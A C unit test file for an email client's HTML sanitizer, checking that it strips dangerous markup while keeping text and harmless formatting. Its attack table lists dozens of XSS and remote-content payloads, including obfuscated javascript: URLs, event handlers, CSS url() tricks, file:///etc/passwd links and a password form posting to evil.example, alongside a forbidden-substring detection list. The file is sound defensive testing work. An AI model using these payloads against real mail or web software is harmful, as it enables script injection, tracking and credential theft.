/* SPDX-License-Identifier: MIT */
#include <message-html.h>

#include <string.h>

/* Each must leave nothing of what is forbidden below; "seen" must be read all the same. */
static const char *const attacks[] = {
  "seen<script>alert(1)</script>",
  "seen<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
  "seen<scr<script>ipt>alert(1)</scr</script>ipt>",
  "seen<script/x>alert(1)</script >",
  "<img src=x onerror=alert(1)>seen",
  "<img src='x'onerror='alert(1)'>seen",
  "<img/src=x/onerror=alert(1)>seen",
  "<p OnClick=\"alert(1)\">seen</p>",
  "<body onload=alert(1)>seen",
  "<div onmouseover\n=\nalert(1)>seen</div>",
  "<a href=\"javascript:alert(1)\">seen</a>",
  "<a href=\"JaVaScRiPt:alert(1)\">seen</a>",
  "<a href=\" \t\njavascript:alert(1)\">seen</a>",
  "<a href=\"java\tscript:alert(1)\">seen</a>",
  "<a href=\"java\nscript:alert(1)\">seen</a>",
  "<a href=\"&#106;avascript:alert(1)\">seen</a>",
  "<a href=\"&#x6a&#x61vascript:alert(1)\">seen</a>",
  "<a href=\"javascript&colon;alert(1)\">seen</a>",
  "<a href=\"java&Tab;script:alert(1)\">seen</a>",
  "<a href=\"\001javascript:alert(1)\">seen</a>",
  "<a href=\"vbscript:msgbox(1)\">seen</a>",
  "<a href=\"data:text/html,<script>alert(1)</script>\">seen</a>",
  "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">seen</a>",
  "<a href=\"file:///etc/passwd\">seen</a>",
  "<a href=\"//evil.example/\">seen</a>",
  "<a href=\"blob:http://x/y\">seen</a>",
  "<img src=\"javascript:alert(1)\">seen",
  "<img src=\"data:text/html,<script>\">seen",
  "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">seen",
  "<img src=\"file:///etc/passwd\">seen",
  "<img srcset=\"http://evil.example/x.png 2x\">seen",
  "<picture><source srcset=\"http://evil.example/x.png\"></picture>seen",
  "<svg onload=alert(1)><script>alert(1)</script></svg>seen",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>seen",
  "<math><mtext><script>alert(1)</script></mtext></math>seen",
  "<math href=\"javascript:alert(1)\">x</math>seen",
  "<iframe src=\"http://evil.example/\"></iframe>seen",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>seen",
  "<object data=\"http://evil.example/x.swf\"></object>seen",
  "<embed src=\"http://evil.example/x.swf\">seen",
  "<applet code=\"x.class\"></applet>seen",
  "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">seen",
  "<base href=\"http://evil.example/\"><a href=\"/x\">seen</a>",
  "<link rel=stylesheet href=\"http://evil.example/x.css\">seen",
  "<style>body { background: url(http://evil.example/x) }</style>seen",
  "<style>@import 'http://evil.example/x.css';</style>seen",
  "<form action=\"http://evil.example/\"><input name=password><button>OK</button></form>seen",
  "<form><button formaction=\"javascript:alert(1)\">x</button></form>seen",
  "<isindex action=\"javascript:alert(1)\">seen",
  "<p style=\"background: url(http://evil.example/x)\">seen</p>",
  "<p style=\"background: u\\72l(http://evil.example/x)\">seen</p>",
  "<p style=\"background: url/**/(http://evil.example/x)\">seen</p>",
  "<p style=\"background-image: url('javascript:alert(1)')\">seen</p>",
  "<p style=\"width: expression(alert(1))\">seen</p>",
  "<p style=\"behavior: url(x.htc)\">seen</p>",
  "<p style=\"-moz-binding: url(x.xml)\">seen</p>",
  "<p style=\"position: fixed; top: 0; left: 0; width: 100%; height: 100%\">seen</p>",
  "<p style='color: red\"><script>alert(1)</script>'>seen</p>",
  "<p style=\"content: '</style><script>alert(1)</script>'\">seen</p>",
  "<p style=\"color: image-set('http://evil.example/x' 1x)\">seen</p>",
  "<body background=\"http://evil.example/x.png\">seen",
  "<body bgcolor=\"red; background: url(http://evil.example/x)\">seen",
  "<table background=\"http://evil.example/x.png\"><tr><td>seen</table>",
  "<td background=\"javascript:alert(1)\">seen</td>",
  "<video poster=\"http://evil.example/x\"><source src=\"http://evil.example/y\"></video>seen",
  "<audio src=\"http://evil.example/x\" autoplay></audio>seen",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>seen",
  "<p title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">seen</p>",
  "<!--[if IE]><script>alert(1)</script><![endif]-->seen",
  "<!-- --!><script>alert(1)</script> -->seen",
  "<textarea><script>alert(1)</script></textarea>seen",
  "<xmp><script>alert(1)</script></xmp>seen",
  "<template><script>alert(1)</script></template>seen",
  "<frameset><frame src=\"javascript:alert(1)\"></frameset><p>seen</p>",
  "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>seen",
  "<map name=m><area href=\"javascript:alert(1)\"></map><img usemap=\"#m\" src=\"cid:x\">seen",
  "<marquee onstart=alert(1)>seen</marquee>",
  "<details open ontoggle=alert(1)>seen</details>",
  "<a href=\"https://x\" ping=\"http://evil.example/\" target=\"_top\" download>seen</a>",
  "<input type=image src=\"http://evil.example/x\">seen",
  "<img src=\"http://evil.example/x.png\">seen",
  "<img src=\"//evil.example/x.png\">seen",
  "<img src=\" HTTPS://evil.example/x.png\">seen",
  "<p id=x class=y contenteditable autofocus tabindex=1 accesskey=a>seen</p>",
};

static const char *const forbidden[] = {
  "<script",    "javascript", "vbscript",  "<svg",       "<math",      "<iframe",
  "<frame",     "<object",    "<embed",    "<applet",    "<meta",      "<base",
  "<link",      "<style",     "<form",     "<input",     "<button",    "<video",
  "<audio",     "<source",    "<template", "<textarea",  "<noscript",  "<map",
  "<area",      "<body",      "url(",      "url/",       "expression", "behavior",
  "binding",    "position",   "srcset",    "srcdoc",     "data:text",  "data:image/svg",
  "file:",      "blob:",      "xlink",     "formaction", "poster",     "background=",
  "ping=",      "target=",    "usemap",    " id=",       " class=",    "contented",
  "autofocus",  "image-set",  "<!--",      "\\",         " href=\"/",  " onerror=\"",
  " onload=\"", " src=\"h",
};

/* An attribute that begins with "on", outside of any value. */
static gboolean
has_handler (const char *html)
{
  gboolean in_tag = FALSE, in_value = FALSE;

  for (const char *at = html; *at != '\0'; at++)
    {
      if (*at == '"' && in_tag)
        in_value = !in_value;
      else if (!in_value && (*at == '<' || *at == '>'))
        in_tag = *at == '<';
      else if (in_tag && !in_value && g_ascii_isspace (*at)
               && g_ascii_strncasecmp (at + 1, "on", 2) == 0)
        return TRUE;
    }
  return FALSE;
}

static char *
body_of (const char *safe)
{
  const char *body = strstr (safe, "<body>");

  g_assert_nonnull (body);
  return g_ascii_strdown (body + strlen ("<body>"), -1);
}

static void
check_harmless (const char *html, const char *attack)
{
  for (gsize i = 0; i < G_N_ELEMENTS (forbidden); i++)
    if (strstr (html, forbidden[i]) != NULL)
      g_test_fail_printf ("“%s” leaves %s: %s", attack, forbidden[i], html);
  if (has_handler (html))
    g_test_fail_printf ("“%s” leaves a handler: %s", attack, html);
}

static void
test_attacks (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (attacks); i++)
    {
      g_autofree char *safe = message_html_make_safe (attacks[i], FALSE, NULL);
      g_autofree char *body = body_of (safe);
      g_autofree char *clean = message_html_clean (attacks[i]);
      g_autofree char *composed = body_of (clean);

      check_harmless (body, attacks[i]);
      if (strstr (body, "seen") == NULL)
        g_test_fail_printf ("“%s” loses the text: %s", attacks[i], body);
      /* The composer may keep images of other machines: somebody put them there. */
      if (strstr (attacks[i], "evil.example/x.png\">seen") == NULL)
        check_harmless (composed, attacks[i]);
      /* What is safe is still so when it is read again. */
      g_autofree char *again = message_html_make_safe (body, FALSE, NULL);
      g_autofree char *twice = body_of (again);
      check_harmless (twice, attacks[i]);
    }
}

/* Our own head stands before anything of the letter's, and allows nothing from outside. */
static void
test_head (void)
{
  g_autofree char *safe
      = message_html_make_safe ("<head><title>x</title></head>hello", FALSE, NULL);
  g_autofree char *remote = message_html_make_safe ("hello", TRUE, NULL);
  g_autofree char *empty = message_html_make_safe ("", FALSE, NULL);

  g_assert_true (g_str_has_prefix (safe, "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">"));
  g_assert_nonnull (strstr (safe, "default-src 'none'; img-src cid: data:; "));
  g_assert_nonnull (strstr (remote, "default-src 'none'; img-src cid: data: https: http:; "));
  g_assert_nonnull (strstr (safe, "<body>hello</body></html>\n")
                        ? safe
                        : strstr (safe, "<body><p>hello</p></body></html>\n"));
  g_assert_nonnull (strstr (empty, "<body></body>"));
}

static void
check_kept (const char *html, const char *expected)
{
  g_autofree char *safe = message_html_make_safe (html, FALSE, NULL);
  const char *body = strstr (safe, "<body>") + strlen ("<body>");
  g_autofree char *found = g_strndup (body, (gsize) (strstr (body, "</body>") - body));

  g_assert_cmpstr (found, ==, expected);
}

static void
test_kept (void)
{
  check_kept ("<p><b>a</b><i>b</i><u>c</u><s>d</s></p>", "<p><b>a</b><i>b</i><u>c</u><s>d</s></p>");
  check_kept ("<p><a href=\"https://example.org/?a=1&amp;b=2\">x</a></p>",
              "<p><a href=\"https://example.org/?a=1&amp;b=2\">x</a></p>");
  check_kept ("<p><a href=\"mailto:a@b\">x</a></p>", "<p><a href=\"mailto:a@b\">x</a></p>");
  check_kept ("<p><img src=\"cid:a@b\" alt=\"A &quot;b&quot;\"></p>",
              "<p><img src=\"cid:a@b\" alt=\"A &quot;b&quot;\"></p>");
  check_kept ("<p><img src=\"data:image/png;base64,iVBO\"></p>",
              "<p><img src=\"data:image/png;base64,iVBO\"></p>");
  check_kept ("<p style=\"color: #123; font-weight: bold; COLOR: rgb(1, 2, 3)\">x</p>",
              "<p style=\"color: #123; font-weight: bold; color: rgb(1, 2, 3)\">x</p>");
  check_kept ("<table border=1><tr><td colspan=2 bgcolor=red>x</td></tr></table>",
              "<table border=\"1\"><tr><td colspan=\"2\" bgcolor=\"red\">x</td></tr></table>");
  check_kept ("<picture><source srcset=\"http://x/y\"><img src=\"cid:a\"></picture>",
              "<img src=\"cid:a\">");
  check_kept ("<ol start=3><li>x</li></ol>", "<ol start=\"3\"><li>x</li></ol>");
  check_kept ("<unknown><p>你好</p></unknown>", "<p>你好</p>");
  check_kept ("<p>1 &lt; 2 &amp; 3</p>", "<p>1 &lt; 2 &amp; 3</p>");
}

/* Each element that may be shown, so that the sorted lists are. */
static void
test_elements (void)
{
  static const char *const elements[]
      = { "a",      "abbr",   "address",    "article", "aside",   "b",       "bdi",    "bdo",
          "big",    "cite",   "code",       "del",     "dfn",     "div",     "em",     "font",
          "h1",     "h2",     "h3",         "h4",      "h5",      "h6",      "i",      "ins",
          "kbd",    "mark",   "nav",        "p",       "pre",     "q",       "s",      "samp",
          "small",  "span",   "strike",     "strong",  "sub",     "sup",     "time",   "tt",
          "u",      "var",    "blockquote", "center",  "details", "summary", "figure", "section",
          "header", "footer", "main" };

  for (gsize i = 0; i < G_N_ELEMENTS (elements); i++)
    {
      g_autofree char *html = g_strdup_printf ("<%s>x</%s>", elements[i], elements[i]);
      g_autofree char *safe = message_html_make_safe (html, FALSE, NULL);

      g_test_message ("%s", elements[i]);
      g_assert_nonnull (strstr (safe, html));
    }
}

static void
check_blocked (const char *html, gboolean remote, guint expected, const char *kept)
{
  guint blocked = 99;
  g_autofree char *safe = message_html_make_safe (html, remote, &blocked);

  g_test_message ("%s", html);
  g_assert_cmpuint (blocked, ==, expected);
  if (kept != NULL)
    g_assert_nonnull (strstr (safe, kept));
}

static void
test_blocked (void)
{
  check_blocked ("<img src=\"http://x/1.png\"><img src='https://x/2.png'>", FALSE, 2, "<img>");
  check_blocked ("<img src=\"http://x/1.png\">", TRUE, 0, "src=\"http://x/1.png\"");
  check_blocked ("<img src=\"cid:a\">", FALSE, 0, "src=\"cid:a\"");
  check_blocked ("<p style=\"background: url(http://x/1.png)\">x</p>", FALSE, 1, NULL);
  check_blocked ("<table background=\"http://x/1.png\"></table>", FALSE, 1, NULL);
  check_blocked ("<a href=\"http://x/\">x</a>", FALSE, 0, "href=\"http://x/\"");
  check_blocked ("", FALSE, 0, NULL);
}

int
main (int argc, char *argv[])
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/message/html/attacks", test_attacks);
  g_test_add_func ("/message/html/head", test_head);
  g_test_add_func ("/message/html/kept", test_kept);
  g_test_add_func ("/message/html/elements", test_elements);
  g_test_add_func ("/message/html/blocked", test_blocked);
  return g_test_run ();
}
